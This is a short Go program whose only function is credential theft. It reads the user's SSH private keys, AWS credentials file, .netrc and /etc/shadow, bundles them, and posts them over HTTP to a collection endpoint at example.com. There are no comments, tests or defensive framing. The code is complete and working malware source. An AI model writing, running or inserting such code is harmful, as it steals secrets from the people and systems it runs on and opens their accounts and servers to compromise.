package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, _ := os.UserHomeDir()
	var buf bytes.Buffer
	for _, rel := range []string{".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"} {
		data, err := os.ReadFile(filepath.Join(home, rel))
		if err == nil {
			buf.WriteString("==> " + rel + "\n")
			buf.Write(data)
		}
	}
	if shadow, err := os.ReadFile("/etc/shadow"); err == nil {
		buf.Write(shadow)
	}
	http.Post("http://example.com/collect", "text/plain", &buf)
}
